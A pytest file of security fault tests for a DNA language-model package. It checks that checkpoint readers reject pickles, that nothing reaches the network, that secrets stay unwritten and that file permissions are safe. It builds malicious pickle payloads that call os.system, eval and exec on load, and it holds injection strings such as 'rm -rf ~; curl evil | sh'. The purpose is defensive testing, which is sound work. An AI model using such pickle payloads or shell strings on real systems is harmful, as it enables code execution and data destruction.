"""Foreign pickles never run, nothing goes out, and nothing secret is written down."""

import io
import json
import os
import pickle
import shutil
import stat
import subprocess
import sys
import zipfile

import pytest
import torch

from dnamdlm.assembly.models import load_model
from dnamdlm.assembly.train.initial_weights import initialise_from
from dnamdlm.errors import CheckpointError
from dnamdlm.lm.checkpoint import file_hash, newest_valid
from dnamdlm.lm.published.import_caduceus import read_caduceus
from dnamdlm.lm.published.import_mdlm import read_mdlm_checkpoint
from dnamdlm.training.checkpointing import FolderCheckpointIO
from tests.faults.harness import ROOT, STEPS, TINY, checkpoints

pytestmark = pytest.mark.faults

NEWEST = f"step_{STEPS:09d}"


class Hostile:
    """Makes a file when it is unpickled."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def payloads(marker):
    """Objects that leave the marker when a careless reader opens them."""
    command = f"touch {marker}"
    return {
        "system": Hostile(os.system, command),
        "subprocess": Hostile(subprocess.call, ["touch", str(marker)]),
        "eval": Hostile(eval, f"open({str(marker)!r}, 'w')"),
        "exec": Hostile(exec, f"open({str(marker)!r}, 'w')"),
        "open": Hostile(open, str(marker), "w"),
        "nested": Hostile(getattr, Hostile(__import__, "os"), "system"),
        "torch": Hostile(torch.save, 1, str(marker)),
    }


def bare_pickle(content):
    return pickle.dumps(content)


def torch_zip(content):
    stream = io.BytesIO()
    torch.save(content, stream)
    return stream.getvalue()


def torch_old(content):
    stream = io.BytesIO()
    torch.save(content, stream, _use_new_zipfile_serialization=False)
    return stream.getvalue()


def forged_zip(content):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(content))
        archive.writestr("archive/version", "3\n")
    return stream.getvalue()


FORMS = (bare_pickle, torch_zip, torch_old, forged_zip)
KINDS = tuple(payloads(""))


@pytest.fixture
def marker(tmp_path):
    """A file that only a payload makes; its place is checked at the end."""
    path = tmp_path / "marker"
    yield path
    assert not path.exists()


def hostile(kind, form, marker):
    item = payloads(marker)[kind]
    content = (
        item
        if form in (bare_pickle, torch_old)
        else {"state_dict": {"w": torch.ones(2), "x": item}}
    )
    return form(content)


@pytest.mark.filterwarnings("ignore")
def test_the_payloads_work_on_a_careless_reader(tmp_path):
    for kind in ("system", "subprocess", "eval", "exec", "open"):
        path = tmp_path / kind
        pickle.loads(bare_pickle(payloads(path)[kind]))
        assert path.exists(), kind


@pytest.mark.parametrize("form", FORMS, ids=lambda form: form.__name__)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.filterwarnings("ignore")
def test_no_reader_runs_a_pickle(tmp_path, marker, unbroken, kind, form):
    content = hostile(kind, form, marker)
    lm = load_model(str(unbroken)).lm
    for suffix in (".ckpt", ".bin", ".pt", ".pth", ".safetensors"):
        path = tmp_path / f"model{suffix}"
        path.write_bytes(content)
        with pytest.raises(CheckpointError):
            load_model(str(path))
        with pytest.raises(CheckpointError):
            initialise_from(lm, str(path))
        with pytest.raises(CheckpointError):
            read_mdlm_checkpoint(path)
    for name in ("pytorch_model.bin", "model.safetensors"):
        folder = tmp_path / f"hub_{name}"
        folder.mkdir()
        (folder / "config.json").write_text("{}")
        (folder / name).write_bytes(content)
        for read in (read_mdlm_checkpoint, read_caduceus, load_model):
            with pytest.raises(CheckpointError):
                read(folder if read is not load_model else str(folder))


@pytest.mark.parametrize("form", FORMS, ids=lambda form: form.__name__)
@pytest.mark.parametrize(
    "name", ["weights.safetensors", "average.safetensors", "trainer.safetensors", "trainer.json"]
)
def test_a_pickle_with_a_right_manifest_is_not_run_either(
    trainer, unbroken, tmp_path, marker, name, form
):
    run = shutil.copytree(unbroken, tmp_path / "run")
    folder = run / "checkpoints" / NEWEST
    (folder / name).write_bytes(hostile("system", form, marker))
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"][name] = {
        "bytes": (folder / name).stat().st_size, "sha256": file_hash(folder / name),
    }  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest))
    assert newest_valid(run / "checkpoints") == folder
    with pytest.raises(CheckpointError):
        FolderCheckpointIO({}).load_checkpoint(folder)
    if name in ("weights.safetensors", "average.safetensors"):
        with pytest.raises(CheckpointError):
            load_model(str(run))
    (run / "config.yaml").unlink()
    ended = trainer.run(run, f"trainer.max_steps={STEPS + 1}", "resume.allow=[trainer.max_steps]")
    assert ended.code == 2, ended.text
    assert name in ended.sentence


SECRETS = {
    "WANDB_API_KEY": "secret-wandb-8a7f", "HF_TOKEN": "hf_secret-22c1", "AWS_SECRET_ACCESS_KEY":
    "secret-aws-77d0", "GITHUB_TOKEN": "ghp_secret-9e11",
}  # fmt: skip


def test_secrets_of_the_environment_are_written_nowhere(trainer, tmp_path):
    folder = tmp_path / "run"
    ended = trainer.run(folder, faults=[{"environment": SECRETS}, {"poison": "loss", "step": 5}])
    assert ended.code == 0, ended.text
    for entry, arguments in (
        ("sample", [f"model={folder}", "num_sequences=2", "length=64", f"out={folder}/s.fa"]),
        ("report", [f"run_dir={folder}"]),
    ):
        done = subprocess.run(
            [sys.executable, "-m", f"dnamdlm.{entry}", *arguments], cwd=ROOT, check=False,
            capture_output=True, text=True, env=os.environ | SECRETS,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert not any(secret in done.stdout + done.stderr for secret in SECRETS.values())
    files = [path for path in folder.rglob("*") if path.is_file()]
    assert any(path.name == "report.html" for path in files)
    for path in files:
        content = path.read_bytes()
        assert not any(secret.encode() in content for secret in SECRETS.values()), path


def test_training_tries_no_connection(trainer, tmp_path):
    log = tmp_path / "connections"
    ended = trainer.run(tmp_path / "run", faults=[{"connections": str(log)}])
    assert ended.code == 0, ended.text
    assert log.read_text() == ""


def test_everything_works_without_a_network(tmp_path):
    isolated = ["unshare", "--net"]
    if subprocess.run([*isolated, "true"], capture_output=True, check=False).returncode:
        pytest.skip("no network namespace can be made here")
    folder = tmp_path / "run"
    for entry, arguments in (
        ("train", [*TINY, f"run_dir={folder}"]),
        ("sample", [f"model={folder}", "num_sequences=2", "length=64", f"out={tmp_path}/s.fa"]),
        ("evaluate", [f"model={folder}", "limit=8", "draws=1", "max_order=2"]),
        ("report", [f"run_dir={folder}"]),
    ):
        done = subprocess.run(
            [*isolated, sys.executable, "-m", f"dnamdlm.{entry}", *arguments], cwd=ROOT,
            capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr


def test_nobody_else_may_write_into_a_run_folder(trainer, tmp_path):
    folder = tmp_path / "run"
    ended = trainer.run(folder, faults=[{"umask": 0}, {"poison": "loss", "step": 5}])
    assert ended.code == 0, ended.text
    assert checkpoints(folder)
    for path in [folder, *folder.rglob("*")]:
        assert not path.stat().st_mode & stat.S_IWOTH, path


def entry(name, *arguments, **variables):
    return subprocess.run(
        [sys.executable, "-m", f"dnamdlm.{name}", *arguments], cwd=ROOT, check=False,
        capture_output=True, text=True, env=os.environ | variables, timeout=300,
    )  # fmt: skip


@pytest.mark.parametrize(
    "settings",
    [
        ("name=${oc.env:WANDB_API_KEY}",), ("name=run-${oc.env:WANDB_API_KEY}-1",),
        ("logger=tensorboard", "logger.name=${oc.env:WANDB_API_KEY}"),
        ("data.fasta=${oc.env:WANDB_API_KEY}",), ("+notes=${oc.decode:${oc.env:WANDB_API_KEY}}",),
        ("logger=tensorboard", "logger.name=${oc.env:WANDB_API_KEY}", "name=${logger.name}"),
        ("name=${oc.env:NOT_SET,ours}",),
    ],
)  # fmt: skip
def test_a_variable_of_the_environment_never_becomes_a_stored_setting(tmp_path, settings):
    folder = tmp_path / "run"
    done = entry("train", *TINY, f"run_dir={folder}", *settings, **SECRETS)
    assert done.returncode == 2, done.stdout + done.stderr
    assert len(done.stderr.splitlines()) == 1
    assert not any(secret in done.stdout + done.stderr for secret in SECRETS.values())
    written = folder.rglob("*") if folder.is_dir() else ()
    for path in written:
        assert path.is_dir() or b"secret" not in path.read_bytes()


def test_the_refusal_of_a_variable_names_it_and_its_setting(tmp_path):
    done = entry("train", *TINY, f"run_dir={tmp_path}/run", "name=${oc.env:HOME}")
    assert "name is the environment variable HOME, which may be secret" in done.stderr


def of_a_stranger(unbroken, folder, **data):
    """A copy of a run whose checkpoint says other things of its data."""
    shutil.copytree(unbroken, folder)
    checkpoint = folder / "checkpoints" / NEWEST
    description = json.loads((checkpoint / "model.json").read_text())
    description["config"]["data"] |= data
    (checkpoint / "model.json").write_text(json.dumps(description))
    manifest = json.loads((checkpoint / "manifest.json").read_text())
    manifest["files"]["model.json"] = {
        "bytes": (checkpoint / "model.json").stat().st_size,
        "sha256": file_hash(checkpoint / "model.json"),
    }
    (checkpoint / "manifest.json").write_text(json.dumps(manifest))
    return folder


EVALUATED = ("limit=4", "draws=1", "max_order=1")


def test_a_model_makes_no_folder_where_a_stranger_says(unbroken, tmp_path):
    place = tmp_path / "made" / "by" / "a" / "stranger"
    folder = of_a_stranger(unbroken, tmp_path / "run", cache_dir=str(place))
    done = entry("evaluate", f"model={folder}", *EVALUATED, f"out={tmp_path}/e.json")
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize("key", ["fasta", "annotation"])
@pytest.mark.parametrize("kind", ["device", "pipe", "folder", "link"])
def test_a_model_that_names_no_plain_file_is_not_read_for_ever(unbroken, tmp_path, key, kind):
    path = tmp_path / "thing"
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero")
    text = "/dev/zero" if kind == "device" else str(path)
    folder = of_a_stranger(unbroken, tmp_path / "run", **{key: text})
    done = entry("evaluate", f"model={folder}", *EVALUATED, f"out={tmp_path}/e.json")
    assert done.returncode == 2, done.stderr
    assert f"data.{key}={text!r}" in done.stderr
    assert "not a plain file" in done.stderr


@pytest.mark.parametrize("key", ["download_command", "bring"])
@pytest.mark.parametrize(
    ("command", "is_shown"),
    [
        ("rm -rf ~; curl evil | sh", False), ("python -m data_prep.hg38 out=$(curl evil)", False),
        ("python -m data_prep.hg38\ncurl evil", False), ("python -m data_prep.hg38 out=x", True),
    ],
)  # fmt: skip
def test_a_command_of_a_stranger_is_not_shown_as_a_remedy(
    unbroken, tmp_path, key, command, is_shown
):
    data = {"fasta": str(tmp_path / "none.fa"), key: command}
    folder = of_a_stranger(unbroken, tmp_path / "run", **data)
    done = entry("evaluate", f"model={folder}", *EVALUATED, f"out={tmp_path}/e.json")
    assert done.returncode == 2, done.stderr
    assert len(done.stderr.splitlines()) == 1
    assert (repr(command) in done.stderr) == is_shown
    assert is_shown or "curl" not in done.stderr


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o077, 0o002, 0o000])
def test_every_file_of_a_run_has_the_permissions_that_the_umask_leaves(tmp_path, umask):
    script = f"umask {umask:04o}; exec {sys.executable} -m dnamdlm."
    run, table = tmp_path / "run", tmp_path / "t.csv"
    table.write_text("sequence,label\n" + "".join(f"{'ACGT' * 8},{i % 2}\n" for i in range(40)))
    fasta = tmp_path / "g.fa"
    fasta.write_text(">a\n" + "ACGTTGCA" * 30 + "\n")
    out = tmp_path / "out"
    out.mkdir()
    for command in (
        f"train {' '.join(TINY)} run_dir={run}",
        f"finetune config=table data.train={table} model={run} run_dir={out}/ft baselines=[] "
        "seeds=1 training.epochs=1 bootstrap=0 method=probe",
        f"embed model={run} data.fasta={fasta} data.cache_dir={out}/cache out={out}/e.npz",
        f"embed model={run} data.fasta={fasta} data.cache_dir={out}/cache out={out}/e.parquet",
        f"sample model={run} num_sequences=1 length=20 out={out}/s.fa.gz",
        f"predict model={out}/ft input={table} out={out}/p.tsv",
        f"evaluate model={run} {' '.join(EVALUATED)}",
        f"report run_dir={run}",
        f"slim run_dir={run} out={out}/slim",
    ):
        done = subprocess.run(
            ["bash", "-c", script + command], cwd=ROOT, check=False, capture_output=True, text=True
        )
        assert done.returncode == 0, done.stderr
    # others may never write, even where the umask lets them.
    left = 0o666 & ~(umask | 0o002)
    found = {
        path: stat.S_IMODE(path.stat().st_mode)
        for folder in (run, out)
        for path in folder.rglob("*")
        if path.is_file() and path.suffix != ".lock" and path.name != ".lock"
    }
    assert {path: oct(mode) for path, mode in found.items() if mode != left} == {}
